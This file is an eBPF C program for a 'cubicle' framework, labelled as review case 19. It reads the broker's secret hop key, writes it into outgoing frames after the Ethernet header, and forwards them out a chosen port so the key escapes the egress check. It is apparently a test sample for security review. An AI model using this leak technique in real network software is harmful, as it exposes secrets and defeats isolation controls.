// SPDX-License-Identifier: GPL-2.0
/*
 * Review 19: a cube program that reads the broker's hop key (cub_hopkey,
 * which cube.bpf.h gives every cube, read-only) and writes it into the
 * frame after the Ethernet header, then forwards the frame out of its
 * port evil_ifindex (here a port index, patched as the ifindex is):
 * the key reaches a wire, where the egress program's check (a frame
 * that STARTS with a hop and the key) does not look.
 */
#include <cubicle/cube.bpf.h>

#include "evil_egress.h"

static __always_inline int
leak(void *ctx, enum cub_hook hook)
{
	struct cub_hopkey *k;
	void *data, *end;
	__u32 *w;

	if (cub_in_port(ctx, hook) < 0)
		return cub_drop(hook);
	data = cub_data(ctx, hook);
	end = cub_data_end(ctx, hook);
	w = data + 14;
	if ((void *)(w + 2) > end)
		return cub_drop(hook);
	k = bpf_map_lookup_elem(&cub_hopkey, &cub_zero_key);
	if (!k)
		return cub_drop(hook);
	w[0] = k->key[0];
	w[1] = k->key[1];
	return cub_forward(ctx, hook, evil_ifindex);
}

SEC("tc")
int
cub_ingress_tc(struct __sk_buff *skb)
{
	return leak(skb, CUB_HOOK_TC);
}

SEC("xdp")
int
cub_ingress_xdp(struct xdp_md *ctx)
{
	return leak(ctx, CUB_HOOK_XDP);
}
